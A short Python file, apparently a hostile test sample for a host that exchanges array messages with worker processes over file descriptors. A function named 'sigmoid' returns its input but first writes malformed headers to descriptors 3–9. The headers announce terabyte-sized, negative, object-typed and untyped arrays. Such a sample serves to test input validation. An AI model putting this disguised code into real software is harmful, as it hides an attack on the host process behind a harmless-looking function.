"""Announces arrays of a terabyte, with negative sides, of objects, and of no type at all. Due: half."""

import json
import os
import struct


def sigmoid(x):
    for arrays in (
        [["<f8", [1 << 37]]],
        [["<f8", [-1]]],
        [["|O", [1]]],
        [[{"x": 1}, [1]]],
        [["<f8", [1 << 62, 1 << 62]]],
    ):
        text = json.dumps({"arrays": arrays}).encode()
        for descriptor in range(3, 10):
            try:
                os.write(descriptor, struct.pack("<II", len(text), len(arrays)) + text)
            except OSError:
                pass
    return x
